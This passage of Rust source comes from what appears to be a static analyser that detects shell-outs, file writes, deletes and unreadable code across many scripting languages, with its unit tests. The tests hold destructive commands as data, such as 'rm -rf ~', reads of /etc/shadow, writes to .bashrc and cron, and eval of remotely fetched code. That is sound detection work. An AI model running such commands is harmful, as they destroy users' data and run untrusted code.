            || matches!(masked[ci - 1], '=' | '!' | '<' | '>')
        {
            continue;
        }
        let mut s = ci;
        while s > 0 && masked[s - 1] == ' ' {
            s -= 1;
        }
        let mut b = s;
        while b > 0 && is_ident(masked[b - 1]) {
            b -= 1;
        }
        let mut v = ci + 1;
        while v < chars.len() && chars[v] == ' ' {
            v += 1;
        }
        if b < s {
            if let Some((sym, _)) = literal_at(Lang::Awk, chars, v) {
                vars.push((chars[b..s].iter().collect(), sym));
            }
        }
    }
    let _ = text;
    for (i, _) in m.match_indices('|') {
        let ci = m[..i].chars().count();
        // After: `getline` means the left side is a command.
        let after: String = m.chars().skip(ci + 1).collect();
        if after.trim_start().starts_with("getline") {
            let mut e = ci;
            while e > 0 && masked[e - 1] == ' ' {
                e -= 1;
            }
            if e > 0 && chars[e - 1] == '"' {
                // A literal ends here: find its start.
                let mut s = e - 1;
                while s > 0 && !(chars[s - 1] == '"' && (s < 2 || chars[s - 2] != '\\')) {
                    s -= 1;
                }
                if s > 0 {
                    if let Some((sym, _)) = literal_at(Lang::Awk, chars, s - 1) {
                        out.push(Effect::Shell(sym));
                    }
                }
            } else {
                let mut b = e;
                while b > 0 && is_ident(masked[b - 1]) {
                    b -= 1;
                }
                let name: String = chars[b..e].iter().collect();
                match vars.iter().rev().find(|(n, _)| *n == name) {
                    Some((_, sym)) => out.push(Effect::Shell(sym.clone())),
                    None => out.push(Effect::Dynamic),
                }
            }
        } else {
            // `print … | "cmd"` / `| NAME`
            let mut v = ci + 1;
            while v < chars.len() && chars[v] == ' ' {
                v += 1;
            }
            if let Some((sym, _)) = literal_at(Lang::Awk, chars, v) {
                out.push(Effect::Shell(sym));
            } else if chars.get(v).is_some_and(|c| is_ident(*c)) {
                let mut e = v;
                while e < chars.len() && is_ident(chars[e]) {
                    e += 1;
                }
                let name: String = chars[v..e].iter().collect();
                if let Some((_, sym)) = vars.iter().rev().find(|(n, _)| *n == name) {
                    out.push(Effect::Shell(sym.clone()));
                }
            }
        }
    }
    // `system(NAME)`
    for (name, sym) in &vars {
        let pat = format!("system({name})");
        if m.replace(' ', "").contains(&pat) {
            out.push(Effect::Shell(sym.clone()));
        }
    }
}

// ------------------------------------------------------------ small languages

/// GNU sed's script, read command by command (sed's manual, "sed scripts"):
/// `e CMD` runs CMD and a bare `e` or the `s///e` flag runs text sed made
/// (unknown code); `w FILE`, `W FILE` and `s///w FILE` write a file, `r FILE`
/// and `R FILE` read one. Addresses (`1`, `$`, `/re/I`, `\%re%`, `0,/re/`,
/// `first~step`, `addr,+N`), `!`, blocks, labels, the text of `a`, `i`, `c`
/// and the parts of `s` and `y` (with escaped delimiters) are stepped over,
/// so that a word of a regular expression or a text is never taken for a
/// command, and a command after `;` or `}` is never missed.
fn sed(script: &str) -> Vec<Effect> {
    let c: Vec<char> = script.chars().collect();
    let mut out = Vec::new();
    let mut i = 0;
    // The rest of the line from `k`, without leading blanks: a file name or
    // a command (`w`, `r`, `e` take the whole line, `;` included).
    let rest_of_line = |k: usize| -> (String, usize) {
        let mut e = k;
        while e < c.len() && c[e] != '\n' {
            e += 1;
        }
        let text: String = c[k..e].iter().collect();
        (text.trim_start().to_string(), e)
    };
    // Past a delimited part (`/re/`, `\%re%`, the parts of `s` and `y`)
    // that starts after its opening delimiter `d`: the index after the
    // closing one, or `None` when it never closes.
    let delimited = |mut k: usize, d: char| -> Option<usize> {
        while k < c.len() {
            match c[k] {
                '\\' => k += 2,
                x if x == d => return Some(k + 1),
                '\n' if d != '\n' => return None,
                _ => k += 1,
            }
        }
        None
    };
    let file = |name: &str| -> Option<Value> {
        let name = name.trim_end();
        (!name.is_empty() && !matches!(name, "/dev/stdout" | "/dev/stderr"))
            .then(|| Value::one(marked(name)))
    };
    while i < c.len() && out.len() < MAX_EFFECTS {
        // Separators, blanks, block ends.
        if c[i].is_whitespace() || matches!(c[i], ';' | '}') {
            i += 1;
            continue;
        }
        if c[i] == '#' {
            i = rest_of_line(i).1;
            continue;
        }
        // Up to two addresses, then `!`.
        for n in 0..2 {
            match c.get(i) {
                Some(d)
                    if d.is_ascii_digit() || *d == '$' || (n == 1 && matches!(*d, '+' | '~')) =>
                {
                    i += 1;
                    while c.get(i).is_some_and(|x| x.is_ascii_digit() || *x == '~') {
                        i += 1;
                    }
                }
                Some('/') => match delimited(i + 1, '/') {
                    Some(e) => i = e,
                    None => return out,
                },
                Some('\\') if i + 1 < c.len() => match delimited(i + 2, c[i + 1]) {
                    Some(e) => i = e,
                    None => return out,
                },
                _ => break,
            }
            while c.get(i).is_some_and(|x| matches!(x, 'I' | 'M')) {
                i += 1;
            }
            while c.get(i).is_some_and(|x| *x == ' ' || *x == '\t') {
                i += 1;
            }
            if n == 0 && c.get(i) == Some(&',') {
                i += 1;
                while c.get(i).is_some_and(|x| *x == ' ' || *x == '\t') {
                    i += 1;
                }
                continue;
            }
            break;
        }
        while c.get(i).is_some_and(|x| matches!(x, '!' | ' ' | '\t')) {
            i += 1;
        }
        let Some(&cmd) = c.get(i) else { break };
        i += 1;
        match cmd {
            '{' => {}
            // Labels and branches: a name up to `;` or the line's end.
            ':' | 'b' | 't' | 'T' => {
                while i < c.len() && !matches!(c[i], ';' | '\n') {
                    i += 1;
                }
            }
            // Text: `a\` then the next line(s), or GNU's `a text` to the
            // line's end; a `\` at a line's end continues it.
            'a' | 'i' | 'c' => {
                while i < c.len() && c[i] != '\n' {
                    i += if c[i] == '\\' { 2 } else { 1 };
                }
            }
            'e' => {
                let (text, e) = rest_of_line(i);
                i = e;
                let text = text.trim_end();
                if text.is_empty() {
                    out.push(Effect::Dynamic);
                } else {
                    out.push(Effect::Shell(marked(text)));
                }
            }
            'r' | 'R' | 'w' | 'W' => {
                let (name, e) = rest_of_line(i);
                i = e;
                if let Some(path) = file(&name) {
                    out.push(if matches!(cmd, 'r' | 'R') {
                        Effect::Read(path)
                    } else {
                        Effect::Write {
                            path,
                            append: false,
                        }
                    });
                }
            }
            's' | 'y' => {
                let Some(&d) = c.get(i) else { break };
                if d == '\n' || d == '\\' {
                    return out;
                }
                let Some(e) = delimited(i + 1, d).and_then(|e| delimited(e, d)) else {
                    return out;
                };
                i = e;
                if cmd == 'y' {
                    continue;
                }
                // Flags: g p e i I m M and a number; `w FILE` ends the line.
                while let Some(&f) = c.get(i) {
                    match f {
                        'e' => {
                            out.push(Effect::Dynamic);
                            i += 1;
                        }
                        'w' => {
                            let (name, e) = rest_of_line(i + 1);
                            i = e;
                            if let Some(path) = file(&name) {
                                out.push(Effect::Write {
                                    path,
                                    append: false,
                                });
                            }
                        }
                        'g' | 'p' | 'i' | 'I' | 'm' | 'M' => i += 1,
                        x if x.is_ascii_digit() => i += 1,
                        _ => break,
                    }
                }
            }
            // `q`/`Q`/`l`/`L` take a number, `v` a version: stepped over by
            // the loop (digits and dots are no commands).
            'q' | 'Q' | 'l' | 'L' | 'v' => {
                while c
                    .get(i)
                    .is_some_and(|x| x.is_ascii_digit() || *x == '.' || *x == ' ')
                {
                    i += 1;
                }
            }
            _ => {}
        }
    }
    out
}

/// vim's `-c`/`+` commands: `:!cmd`, `:r !cmd`, `:w !cmd`, `system('…')`.
/// Vim's ex commands: one (`vim -c CMD`), or a script of them, a command a
/// line (`vim -S FILE`, ex mode's standard input; `"` starts a comment).
fn vim(code: &str) -> Vec<Effect> {
    if !code.trim().contains('\n') {
        return vim_command(code);
    }
    code.lines()
        .map(str::trim)
        .filter(|l| !l.is_empty() && !l.starts_with('"'))
        .flat_map(vim_command)
        .take(MAX_EFFECTS)
        .collect()
}

/// One ex command.
fn vim_command(cmd: &str) -> Vec<Effect> {
    let mut out = Vec::new();
    let mut c = cmd.trim().trim_start_matches(':').trim_start();
    let mut built = false;
    for prefix in ["silent!", "silent", "exe", "execute"] {
        if let Some(r) = c.strip_prefix(prefix) {
            built |= prefix.starts_with("exe");
            c = r.trim_start();
        }
    }
    // An ex command whose name, or the whole of which (`:execute $X`), is
    // only known when it runs: unknown code (`vim -c "$CMD"`).
    if c.starts_with(MARK_UNKNOWN) || (built && c.contains(MARK_UNKNOWN)) {
        out.push(Effect::Dynamic);
    }
    // The interpreters vim embeds: `:lua os.execute(…)`, `:py3 import os; …`,
    // `:perl system(…)`, `:ruby system(…)` (`:lua=EXPR` prints the value).
    let embedded = [
        ("luado", Lang::Lua),
        ("py3do", Lang::Python),
        ("pydo", Lang::Python),
        ("pyxdo", Lang::Python),
        ("perldo", Lang::Perl),
        ("rubydo", Lang::Ruby),
        ("lua", Lang::Lua),
        ("python3", Lang::Python),
        ("python", Lang::Python),
        ("pythonx", Lang::Python),
        ("py3", Lang::Python),
        ("pyx", Lang::Python),
        ("py", Lang::Python),
        ("perl", Lang::Perl),
        ("ruby", Lang::Ruby),
        ("rub", Lang::Ruby),
    ];
    for (name, lang) in embedded {
        let Some(rest) = c.strip_prefix(name) else {
            continue;
        };
        let rest = rest.strip_prefix('=').unwrap_or(rest);
        if !rest.starts_with([' ', '\t']) && !rest.is_empty() {
            continue;
        }
        if rest.contains(MARK_UNKNOWN) {
            out.push(Effect::Dynamic);
        }
        out.extend(scan(lang, rest.trim()));
        return out;
    }
    for prefix in ["r", "read", "w", "write"] {
        if let Some(r) = c.strip_prefix(prefix) {
            if r.trim_start().starts_with('!') {
                c = r.trim_start();
            }
        }
    }
    if let Some(sh) = c.strip_prefix('!') {
        out.push(Effect::Shell(Sym::text(sh.trim())));
    }
    out.extend(
        calls(Lang::Python, cmd)
            .into_iter()
            .filter(|e| matches!(e, Effect::Shell(_))),
    );
    // Vim script's `delete(p, 'rf')` (read as Neovim's Lua `vim.fn.delete`).
    out.extend(
        calls(Lang::Lua, cmd)
            .into_iter()
            .filter(|e| matches!(e, Effect::Delete { .. })),
    );
    out
}

/// AppleScript: `do shell script "…"`.
fn applescript(code: &str) -> Vec<Effect> {
    let mut out = Vec::new();
    let chars: Vec<char> = code.chars().collect();
    let lower = code.to_lowercase();
    for (i, _) in lower.match_indices("do shell script") {
        let mut k = lower[..i].chars().count() + "do shell script".len();
        while chars.get(k) == Some(&' ') {
            k += 1;
        }
        match literal_at(Lang::Js, &chars, k).filter(|_| chars.get(k) == Some(&'"')) {
            Some((sym, _)) => out.push(Effect::Shell(sym)),
            None => out.push(Effect::Dynamic),
        }
    }
    out
}

/// A makefile: recipe lines (starting with a tab) are shell commands, and so
/// is the text of `$(shell …)` (run when make reads the file).
/// A recipe line as the shell gets it: make's own references (`$(CC)`,
/// `${OUT}`, `$@`, `$*`) are values only the run knows, `$$` is `$`.
fn make_expanded(line: &str) -> String {
    let chars: Vec<char> = line.chars().collect();
    let mut out = String::new();
    let mut k = 0;
    while k < chars.len() {
        if chars[k] != '$' {
            out.push(chars[k]);
            k += 1;
            continue;
        }
        match chars.get(k + 1) {
            Some('$') => {
                out.push('$');
                k += 2;
            }
            Some('(' | '{') => match matching(&chars, k + 1) {
                Some(close) => {
                    out.push(MARK_UNKNOWN);
                    k = close + 1;
                }
                None => {
                    out.push(MARK_UNKNOWN);
                    k = chars.len();
                }
            },
            Some(_) => {
                out.push(MARK_UNKNOWN);
                k += 2;
            }
            None => k += 1,
        }
    }
    out
}

/// What a makefile runs in the shell: recipe lines (after a tab, or the
/// character `.RECIPEPREFIX` names), a recipe written on its rule's line
/// after `;` (`clean: ; rm -rf out`), a `!=` assignment's command (`X !=
/// date`) and `$(shell …)`. A `.RECIPEPREFIX` nobody can read makes every
/// line a possible recipe: unknown code.
fn make(text: &str) -> Vec<Effect> {
    let mut out: Vec<Effect> = Vec::new();
    let mut prefix = '\t';
    let recipe = |l: &str| {
        let l = make_expanded(l.trim_start().trim_start_matches(['@', '-', '+']));
        (!l.trim().is_empty()).then(|| Effect::Shell(marked(&l)))
    };
    for line in text.lines() {
        if let Some(r) = line.strip_prefix(prefix) {
            out.extend(recipe(r));
            continue;
        }
        let t = line.trim_start();
        if let Some(v) = t.strip_prefix(".RECIPEPREFIX") {
            let v = v.trim_start();
            let v = v
                .strip_prefix(":=")
                .or_else(|| v.strip_prefix("::="))
                .or_else(|| v.strip_prefix('='))
                .map(str::trim);
            match v.map(|v| (v, v.chars().next())) {
                Some(("", _)) => prefix = '\t',
                Some((v, Some(c))) if v.chars().count() == 1 && c != '$' => prefix = c,
                _ => out.push(Effect::Dynamic),
            }
            continue;
        }
        if t.starts_with('#') {
            continue;
        }
        // `VAR != COMMAND`: the shell's output becomes the value.
        if let Some((name, cmd)) = t.split_once("!=") {
            if !name.contains([':', '=', '$', '(']) && !name.trim().is_empty() {
                out.extend(recipe(cmd.trim()));
                continue;
            }
        }
        // A rule's line (`targets : prerequisites ; recipe`), not an
        // assignment (`X := a;b`, `X = a:b;c`).
        let colon = t.find(':');
        let equals = t.find('=');
        if let Some(c) = colon {
            let assignment = equals.is_some_and(|e| e < c)
                || t[c..].starts_with(":=")
                || t[c..].starts_with("::=")
                || t[c..].starts_with(":::=");
            if !assignment {
                if let Some(semi) = t[c..].find(';') {
                    out.extend(recipe(&t[c + semi + 1..]));
                }
            }
        }
    }
    let chars: Vec<char> = text.chars().collect();
    for open in ["$(shell ", "${shell "] {
        let o: Vec<char> = open.chars().collect();
        let mut k = 0;
        while k + o.len() <= chars.len() {
            if chars[k..k + o.len()] != o[..] {
                k += 1;
                continue;
            }
            match matching(&chars, k + 1) {
                Some(close) => {
                    let cmd: String = chars[k + o.len()..close].iter().collect();
                    out.push(Effect::Shell(marked(&cmd.replace("$$", "$"))));
                    k = close + 1;
                }
                None => {
                    out.push(Effect::Dynamic);
                    break;
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shells(lang: Lang, code: &str) -> Vec<String> {
        scan(lang, code)
            .into_iter()
            .filter_map(|e| match e {
                Effect::Shell(s) => Some(shell_text(&s)),
                _ => None,
            })
            .collect()
    }

    fn deletes(lang: Lang, code: &str) -> Vec<(bool, String)> {
        scan(lang, code)
            .into_iter()
            .filter_map(|e| match e {
                Effect::Delete { recursive, path } => Some((recursive, path.to_string())),
                _ => None,
            })
            .collect()
    }

    /// (language, code, the writes it does as `>`/`>>` PATH)
    const WRITES: &[(Lang, &str, &[&str])] = &[
        (
            Lang::Python,
            "open('/etc/hosts','w').write('x')",
            &["> /etc/hosts"],
        ),
        (
            Lang::Python,
            "open('/etc/hosts', mode='a')",
            &[">> /etc/hosts"],
        ),
        (Lang::Python, "open('/etc/hosts')", &[]),
        (
            Lang::Python,
            "Path.home().joinpath('.zshrc').write_text('x')",
            &["> $HOME/.zshrc"],
        ),
        (
            Lang::Python,
            "shutil.copy('a', '/usr/local/bin/x')",
            &["> /usr/local/bin/x"],
        ),
        (Lang::Js, "fs.appendFileSync('/etc/x', 'y')", &[">> /etc/x"]),
        (Lang::Ruby, "File.write('/etc/x', 'y')", &["> /etc/x"]),
        (Lang::Perl, "open(my $f, '>>', '/etc/x')", &[">> /etc/x"]),
        (Lang::Perl, "open(F, '>/etc/x')", &["> /etc/x"]),
        (
            Lang::Php,
            "file_put_contents('/etc/x', 'y');",
            &["> /etc/x"],
        ),
        (Lang::Julia, "write(\"/etc/x\", \"y\")", &["> /etc/x"]),
    ];

    #[test]
    fn writes() {
        for (lang, code, want) in WRITES {
            let got: Vec<String> = scan(*lang, code)
                .into_iter()
                .filter_map(|e| match e {
                    Effect::Write { path, append } => {
                        Some(format!("{} {path}", if append { ">>" } else { ">" }))
                    }
                    _ => None,
                })
                .collect();
            assert_eq!(got, *want, "{code}");
        }
    }

    /// (language, code, recursive deletes it does)
    const WALK_DELETES: &[(Lang, &str, &[&str])] = &[
        (
            Lang::Python,
            "for r,_,fs in os.walk('/etc'):\n  [os.remove(os.path.join(r,f)) for f in fs]",
            &["/etc/…"],
        ),
        (
            Lang::Python,
            "for p in Path.home().rglob('*'): p.unlink()",
            &["$HOME/…"],
        ),
        (
            Lang::Python,
            "[os.remove(f) for f in glob.glob('/srv/**', recursive=True)]",
            &["/srv/…"],
        ),
        (
            Lang::Python,
            "[os.remove(f) for f in os.listdir()]",
            &["$PWD/…"],
        ),
        // a walk that deletes nothing, a delete of a named file
        (Lang::Python, "print(list(os.walk('/etc')))", &[]),
        (Lang::Python, "os.walk('/etc'); os.remove('x.txt')", &[]),
        (Lang::Julia, "rm(homedir(); recursive=true)", &["$HOME"]),
        (
            Lang::Julia,
            "rm(homedir()*\"/Documents\"; recursive=true)",
            &["$HOME/Documents"],
        ),
        (
            Lang::Julia,
            "rm(string(homedir(), \"/src\"), recursive=true)",
            &["$HOME/src"],
        ),
        (
            Lang::R,
            "unlink(paste0(path.expand(\"~\"), \"/src\"), recursive=TRUE)",
            &["$HOME/src"],
        ),
    ];

    #[test]
    fn walk_deletes() {
        for (lang, code, want) in WALK_DELETES {
            let got: Vec<String> = scan(*lang, code)
                .into_iter()
                .filter_map(|e| match e {
                    Effect::Delete {
                        recursive: true,
                        path,
                    } => Some(path.to_string()),
                    _ => None,
                })
                .collect();
            assert_eq!(got, *want, "{code}");
        }
    }

    /// (language, code, the shell commands its calls are: one per effect,
    /// joined by ` | `)
    const EQUIVALENTS: &[(Lang, &str, &str)] = &[
        (
            Lang::Python,
            "os.chmod('/etc/passwd', 0o777)",
            "chmod 0777 /etc/passwd",
        ),
        (Lang::Python, "Path('k').chmod(0)", "chmod 0 k"),
        (Lang::Python, "os.chown('/etc/x', 0, 0)", "chown 0 /etc/x"),
        (Lang::Js, "fs.chmodSync('a', 0o600)", "chmod 0600 a"),
        (
            Lang::Ruby,
            "FileUtils.chmod(0755, ['a', 'b'])",
            "chmod 0755 a | chmod 0755 b",
        ),
        (Lang::Perl, "chown 0, 0, '/etc/x'", "chown 0 /etc/x"),
        (Lang::Python, "os.rename('a', 'b')", "mv a b"),
        (Lang::Js, "fs.renameSync('a', 'b')", "mv a b"),
        (
            Lang::Python,
            "os.symlink('/dev/null', 'x')",
            "ln -s /dev/null x",
        ),
        (Lang::Python, "Path('x').symlink_to('t')", "ln -s t x"),
        (Lang::Python, "os.link('a', 'b')", "ln a b"),
        (
            Lang::Js,
            "fs.truncateSync('log.txt')",
            "truncate -s 0 log.txt",
        ),
        (
            Lang::Python,
            "os.spawnlp(os.P_WAIT, 'rm', 'rm', '-rf', 'd')",
            "rm -rf d",
        ),
        (
            Lang::Python,
            "os.execl('/bin/rm', 'rm', '-rf', 'd')",
            "/bin/rm -rf d",
        ),
        (
            Lang::Python,
            "asyncio.create_subprocess_exec('ls', '-l')",
            "ls -l",
        ),
        (
            Lang::Python,
            "os.posix_spawn('/bin/ls', ['ls', '-l'], {})",
            "/bin/ls ls -l",
        ),
        (
            Lang::Perl,
            "open3($i, $o, $e, 'rm', '-rf', 'd')",
            "rm -rf d",
        ),
        // A name of the user's own (`move(a, b)` with nothing known) is data.
        (Lang::Python, "move(a, b); rename(x, y)", ""),
    ];

    #[test]
    fn file_and_process_calls_are_the_shell_commands_they_equal() {
        for (lang, code, want) in EQUIVALENTS {
            let got: Vec<String> = scan(*lang, code)
                .into_iter()
                .filter_map(|e| match e {
                    Effect::Words(w) => Some(
                        w.iter()
                            .map(ToString::to_string)
                            .collect::<Vec<_>>()
                            .join(" "),
                    ),
                    _ => None,
                })
                .collect();
            assert_eq!(got.join(" | "), *want, "{code}");
        }
    }

    #[test]
    fn a_process_call_whose_command_nobody_knows_is_unknown_code() {
        for (lang, code, dynamic) in [
            (Lang::Python, "subprocess.run(sys.argv[1:])", true),
            (Lang::Python, "pty.spawn(sys.argv[1:])", true),
            (Lang::Python, "os.execvp(sys.argv[1], sys.argv[1:])", true),
            (
                Lang::Python,
                "subprocess.run(os.environ['CMD'], shell=True)",
                true,
            ),
            (
                Lang::Js,
                "require('child_process').spawnSync(process.argv[1])",
                true,
            ),
            (
                Lang::Python,
                "subprocess.run(['npm', 'test'], check=True)",
                false,
            ),
            (Lang::Python, "session.run(x)", false),
            (Lang::Python, "run(task)", false),
        ] {
            let got = scan(lang, code).contains(&Effect::Dynamic);
            assert_eq!(got, dynamic, "{code}");
        }
    }

    #[test]
    fn exec_of_code_nobody_can_read() {
        for (code, dynamic) in [
            ("exec(base64.b64decode('aGk='))", true),
            ("eval(compile(zlib.decompress(b), 'x', 'exec'))", true),
            ("exec(open('setup.py').read())", false),
            ("print(eval('2+3'))", false),
        ] {
            let got = scan(Lang::Python, code).contains(&Effect::Dynamic);
            assert_eq!(got, dynamic, "{code}");
        }
        for (lang, code, dynamic) in [
            (Lang::Js, "fetch(u).then(r => r.text()).then(eval)", true),
            (
                Lang::Js,
                "fetch(u).then(r=>r.text()).then(t=>Function(t)())",
                true,
            ),
            (Lang::Js, "const run = eval; run(x)", true),
            (Lang::Js, "new Function('return 1')()", false),
            (Lang::Js, "console.log(Function.prototype.toString)", false),
            (
                Lang::Js,
                "fetch(u).then(r => r.text()).then(console.log)",
                false,
            ),
            (
                Lang::Php,
                "eval(file_get_contents('https://x.example.net/p.php'));",
                true,
            ),
            (Lang::Php, "eval(file_get_contents('setup.php'));", false),
            (Lang::Php, "eval('echo 1;');", false),
        ] {
            let got = scan(lang, code).contains(&Effect::Dynamic);
            assert_eq!(got, dynamic, "{code}");
        }
        assert_eq!(
            deletes(Lang::Python, "exec(\"import shutil; shutil.rmtree('/')\")"),
            [(true, "/".to_string())]
        );
    }

    #[test]
    fn shell_outs() {
        assert_eq!(
            shells(Lang::Python, "import os; os.system('rm -rf ~')"),
            ["rm -rf ~"]
        );
        // Names bound to a shell-out (cause from redteam5).
        for (lang, code) in [
            (Lang::Python, "from os import system as s; s('rm -rf ~')"),
            (Lang::Python, "import os; f = os.system; f('rm -rf ~')"),
            (
                Lang::Python,
                "from subprocess import check_output as co\nco('rm -rf ~', shell=True)",
            ),
            (
                Lang::Js,
                "const {execSync: x} = require('child_process'); x('rm -rf ~')",
            ),
            (
                Lang::Js,
                "const r = require('child_process').execSync; r('rm -rf ~')",
            ),
            (
                Lang::Js,
                "import('child_process').then(({execSync: e}) => e('rm -rf ~'))",
            ),
            (Lang::Ruby, "x = method(:system); x.call('rm -rf ~')"),
            (Lang::Perl, "my $s = \\&CORE::system; $s->('rm -rf ~')"),
        ] {
            assert_eq!(shells(lang, code), ["rm -rf ~"], "{code}");
        }
        // A binding in a string binds nothing; other aliases are other names.
        assert!(shells(Lang::Python, "print('from os import system as s'); s('x')").is_empty());
        assert!(shells(Lang::Python, "import numpy as np; np.zeros(3)").is_empty());
        assert_eq!(
            shells(Lang::Python, "__import__('os').system('rm -rf /')"),
            ["rm -rf /"]
        );
        assert_eq!(
            shells(Lang::Perl, "system(\"rm -rf $ENV{HOME}\")"),
            ["rm -rf $HOME"]
        );
        assert_eq!(shells(Lang::Perl, "exec \"rm -rf ~\""), ["rm -rf ~"]);
        assert_eq!(shells(Lang::Perl, "`rm -rf ~`"), ["rm -rf ~"]);
        assert_eq!(shells(Lang::Ruby, "%x(ls -la)"), ["ls -la"]);
        assert_eq!(
            shells(Lang::Js, "require('child_process').execSync(\"rm -rf ~\")"),
            ["rm -rf ~"]
        );
        assert_eq!(shells(Lang::Js, "await Bun.$`rm -rf ~`"), ["rm -rf ~"]);
        assert_eq!(shells(Lang::Lua, "os.execute(\"rm -rf ~\")"), ["rm -rf ~"]);
        assert_eq!(
            shells(Lang::Awk, "BEGIN{system(\"rm -rf ~\")}"),
            ["rm -rf ~"]
        );
        assert_eq!(
            shells(Lang::Awk, "BEGIN { cmd = \"rm -rf /\"; cmd | getline }"),
            ["rm -rf /"]
        );
        assert_eq!(shells(Lang::Sed, "e rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(shells(Lang::Vim, ":!rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(
            shells(Lang::Vim, ":lua os.execute(\"rm -rf ~\")"),
            ["rm -rf ~"]
        );
        assert_eq!(
            shells(Lang::Vim, "py3 import os; os.system('rm -rf ~')"),
            ["rm -rf ~"]
        );
        assert_eq!(shells(Lang::Vim, "perldo system('id')"), ["id"]);
        assert!(shells(Lang::Vim, "luafile init.lua").is_empty());
        assert!(shells(Lang::Vim, "set number").is_empty());
        assert_eq!(
            shells(Lang::Vim, "\" a script\nset nocompatible\n:!rm -rf ~\nwq\n"),
            ["rm -rf ~"]
        );
        assert_eq!(
            shells(Lang::AppleScript, "do shell script \"rm -rf ~\""),
            ["rm -rf ~"]
        );
        assert_eq!(shells(Lang::Make, "all:\n\t@rm -rf ~\n"), ["rm -rf ~"]);
        assert_eq!(shells(Lang::Make, "x: ; rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(shells(Lang::Make, "a b:: c d;@rm -rf ~"), ["rm -rf ~"]);
        assert_eq!(
            shells(Lang::Make, ".RECIPEPREFIX = >\nx:\n> rm -rf ~\n"),
            ["rm -rf ~"]
        );
        assert_eq!(shells(Lang::Make, "NOW != rm -rf ~"), ["rm -rf ~"]);
        assert!(shells(
            Lang::Make,
            "CFLAGS := -O2; -g\nX = a:b;c\n# x: ; rm -rf ~\n"
        )
        .is_empty());
        assert!(matches!(
            scan(Lang::Make, ".RECIPEPREFIX := $(P)\nx:\n$(P)rm -rf ~\n").as_slice(),
            [Effect::Dynamic, ..]
        ));
    }

    /// sed's script read command by command: what runs, what is written
    /// and read, and the words of expressions and texts that are neither.
    #[test]
    fn sed_commands() {
        let kinds = |code: &str| -> Vec<String> {
            scan(Lang::Sed, code)
                .into_iter()
                .map(|e| match e {
                    Effect::Shell(s) => format!("run {}", shell_text(&s)),
                    Effect::Write { path, .. } => {
                        format!("write {}", path.literal().unwrap_or_default())
                    }
                    Effect::Read(path) => format!("read {}", path.literal().unwrap_or_default()),
                    Effect::Dynamic => "unknown".into(),
                    _ => "other".into(),
                })
                .collect()
        };
        assert_eq!(kinds("1e rm -rf ~"), ["run rm -rf ~"]);
        assert_eq!(kinds("/x/!e id; rm -rf ~"), ["run id; rm -rf ~"]);
        assert_eq!(kinds("s/a/b/;$e touch x"), ["run touch x"]);
        assert_eq!(kinds("0,/re/{e uname\n}"), ["run uname"]);
        assert_eq!(kinds("s/.*/id/e"), ["unknown"]);
        assert_eq!(kinds("s|x|y|ge"), ["unknown"]);
        assert_eq!(kinds("1{e\n}"), ["unknown"]);
        assert_eq!(kinds("w /home/u/.bashrc"), ["write /home/u/.bashrc"]);
        assert_eq!(kinds("/k/W out.txt"), ["write out.txt"]);
        assert_eq!(kinds("s/a/b/w /etc/cron.d/x"), ["write /etc/cron.d/x"]);
        assert_eq!(kinds("1r /etc/shadow"), ["read /etc/shadow"]);
        assert_eq!(kinds("\\%x%R .env"), ["read .env"]);
        // words of expressions, replacements and texts are no commands
        assert!(kinds("s/e rm -rf ~/x/").is_empty());
        assert!(kinds("s/\\/e/w/g").is_empty());
        assert!(kinds("y/ew/we/").is_empty());
        assert!(kinds("/^e /d").is_empty());
        assert!(kinds("a e rm -rf ~").is_empty());
        assert!(kinds("1i\\\nw /etc/passwd").is_empty());
        assert!(kinds(":e\nb e").is_empty());
        assert!(kinds("s/x/y/w /dev/stdout").is_empty());
        assert!(kinds("# e rm -rf ~\np").is_empty());
        assert!(kinds("$!N;P;D").is_empty());
    }

    #[test]
    fn data_is_not_code() {
        assert!(scan(Lang::Python, "print('os.system(\"rm -rf /\")')").is_empty());
        assert!(scan(Lang::Python, "# os.system('rm -rf /')\nprint(1)").is_empty());
        assert!(scan(Lang::Js, "console.log(process.version)").is_empty());
        assert!(scan(Lang::Awk, "{print $1}").is_empty());
        assert!(scan(Lang::Sed, "s/old/new/g").is_empty());
    }

    /// (language, code, the shell command it runs) where the target is the
    /// home folder computed in the language's own way: concatenation,
    /// interpolation, formatting, a variable, a conversion.
    const HOME_SHELL_OUTS: &[(Lang, &str, &str)] = &[
        (
            Lang::Perl,
            r#"system("rm -rf ".$ENV{HOME})"#,
            "rm -rf $HOME",
        ),
        (
            Lang::Perl,
            r#"system("rm -rf " . $ENV{HOME} . "/.ssh")"#,
            "rm -rf $HOME/.ssh",
        ),
        (
            Lang::Perl,
            r#"my $h = $ENV{HOME}; system("rm -rf $h")"#,
            "rm -rf $HOME",
        ),
        (
            Lang::Perl,
            r#"$d = $ENV{'HOME'}; system "rm -rf ${d}/x""#,
            "rm -rf $HOME/x",
        ),
        (
            Lang::Perl,
            r#"system("rm -rf ".(getpwuid($<))[7])"#,
            "rm -rf $HOME",
        ),
        (
            Lang::Php,
            r#"system("rm -rf " . $_SERVER["HOME"]);"#,
            "rm -rf $HOME",
        ),
        (
            Lang::Php,
            r#"$h = getenv("HOME"); system("rm -rf $h");"#,
            "rm -rf $HOME",
        ),
        (
            Lang::Lua,
            r#"os.execute("rm -rf " .. os.getenv("HOME"))"#,
            "rm -rf $HOME",
        ),
        (
            Lang::Lua,
            r#"local h = os.getenv("HOME"); os.execute("rm -rf " .. h)"#,
            "rm -rf $HOME",
        ),
        (
            Lang::Python,
            "os.system('rm -rf %s' % os.environ['HOME'])",
            "rm -rf $HOME",
        ),
        (
            Lang::Python,
            "os.system('rm -rf {}'.format(os.environ['HOME']))",
            "rm -rf $HOME",
        ),
        (
            Lang::Python,
            "os.system('rm -rf ' + str(pathlib.Path.home()))",
            "rm -rf $HOME",
        ),
        (
            Lang::Python,
            "os.system('rm -rf ' + os.environ.get('HOME', '/tmp'))",
            "rm -rf $HOME",
        ),
        (
            Lang::Python,
            "h = os.environ['HOME']; os.system('rm -rf ' + h)",
            "rm -rf $HOME",
        ),
        (
            Lang::Python,
            "h = os.path.expanduser('~')\nos.system(f'rm -rf {h}')",
            "rm -rf $HOME",
        ),
        (
            Lang::Js,
            "const h = process.env.HOME; execSync('rm -rf ' + h)",
            "rm -rf $HOME",
        ),
        (
            Lang::Js,
            "execSync(`rm -rf ${os.userInfo().homedir}`)",
            "rm -rf $HOME",
        ),
        (
            Lang::Ruby,
